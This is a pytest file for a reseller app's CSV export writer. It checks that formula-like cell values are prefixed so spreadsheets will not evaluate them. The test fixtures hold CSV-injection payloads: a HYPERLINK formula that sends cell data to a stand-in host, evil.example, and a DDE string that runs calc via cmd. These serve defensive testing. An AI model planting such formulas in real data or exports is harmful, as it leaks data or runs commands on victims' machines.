"""Every CSV export neutralises formula-like text in every text column (issue 15, finding 5).

A client's first name `=HYPERLINK(...)` (from the public signup form), a sub-account description, a carrier's
caller ID, a fax's remote number, a rate centre: each export goes through the one writer
(`services/common/csv_out.py`), so no cell a spreadsheet would run starts with `= + - @ \\t \\r`. Plain numbers
(negative amounts) stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient

from reseller_app.api import create_api
from reseller_app.db import session_scope
from reseller_app.models import AreaRate, Cdr, Client, Did, FaxRecord, Package, Reseller, SubAccount
from reseller_app.services.access import auth
from reseller_app.services.access.security import hash_password
from reseller_app.services.catalog import area_rates
from reseller_app.services.common.csv_out import FORMULA_START, csv_line, safe_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PW = "password-123"


def dangerous(cell: str) -> bool:
    """A cell a spreadsheet would evaluate (a plain number is not)."""
    if not cell.startswith(FORMULA_START):
        return False
    try:
        Decimal(cell)
    except ArithmeticError:
        return True
    return False


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5000", "-12.5000"),
        ("+15145550100", "+15145550100"),
        ("plain", "plain"),
        (Decimal("-1.25"), Decimal("-1.25")),
    ],
)
def test_the_one_writer_neutralises_formula_cells_only(value, expected):
    assert safe_cell(value) == expected
    assert not any(dangerous(c) for c in _cells(csv_line([value])))


@pytest.fixture()
def evil_books(engine):
    """A reseller whose client, sub-account, calls, faxes, numbers and rates all carry formula-like text."""
    rid = auth.create_reseller("ra@example.com", PW)
    now = datetime.now(UTC) - timedelta(hours=1)
    with session_scope() as s:
        s.get(Reseller, rid).portal_active = True
        pkg = Package(reseller_id=rid, name="@SUM(1+1)")
        s.add(pkg)
        s.flush()
        c = Client(
            reseller_id=rid,
            email="evil@example.com",
            password_hash=hash_password(PW),
            firstname=EVIL,
            lastname="-2+3",
        )
        s.add(c)
        s.flush()
        sub = SubAccount(
            reseller_id=rid,
            client_id=c.id,
            package_id=pkg.id,
            account="+1+1",
            description="=cmd|' /C calc'!A0",
            sip_password="pw",
        )
        s.add(sub)
        s.flush()
        did = Did(reseller_id=rid, number="15145550100", rate_center="=1+1", client_id=c.id, sub_account_id=sub.id)
        s.add(did)
        s.add(AreaRate(package_id=pkg.id, reseller_id=rid, country="CA", rate=Decimal("0.01")))
        s.add(
            Cdr(
                reseller_id=rid,
                client_id=c.id,
                sub_account_id=sub.id,
                uniqueid="u1",
                start=now,
                direction="out",
                account="@acct",
                callerid='=HYPERLINK("x")',
                destination="-1+1",
                disposition="ANSWERED",
                duration=60,
                price=Decimal("0.0125"),
                cost=Decimal("0.02"),
                profit=Decimal("-0.0075"),
            )
        )
        s.add(
            FaxRecord(reseller_id=rid, client_id=c.id, uniqueid="f1", start=now, direction="in", remote_number="\t=2+2")
        )
        cid, pkg_id = c.id, pkg.id
    return {"rid": rid, "cid": cid, "pkg": pkg_id}


@pytest.mark.parametrize("kind", ["cdr", "fax", "financial", "subaccounts", "dids"])
def test_every_report_export_is_neutralised(evil_books, kind):
    http = TestClient(create_api())
    http.cookies.set("rp_rsess", auth.login_reseller("ra@example.com", PW))
    r = http.get(f"/api/reports/{kind}.csv")
    assert r.status_code == 200, r.text
    cells = _cells(r.text)
    assert not [c for c in cells if dangerous(c)], r.text
    if kind in ("cdr", "subaccounts"):
        assert "'" + EVIL in r.text.replace('""', '"') or "'=HYPERLINK" in r.text  # the row is there, neutralised
    if kind == "cdr":
        assert "-0.0075" in cells  # amounts stay numbers


def test_the_clients_call_export_is_neutralised_in_every_column(evil_books):
    rid = evil_books["rid"]
    http = TestClient(create_api())
    http.cookies.set("rp_csess", auth.login_client(rid, "evil@example.com", PW))
    r = http.get(f"/api/client/{rid}/calls.csv")
    assert r.status_code == 200, r.text
    cells = _cells(r.text)
    assert "'@acct" in cells and "'-1+1" in cells
    assert not [c for c in cells if dangerous(c)], r.text


def test_the_area_rate_export_goes_through_the_same_writer(evil_books):
    from reseller_app.services.access.actor import Actor

    text = area_rates.export_area_rates(Actor("reseller", evil_books["rid"]), evil_books["pkg"])
    assert text.splitlines()[0] == "prefix,country,rate"
    assert not [c for c in _cells(text) if dangerous(c)]
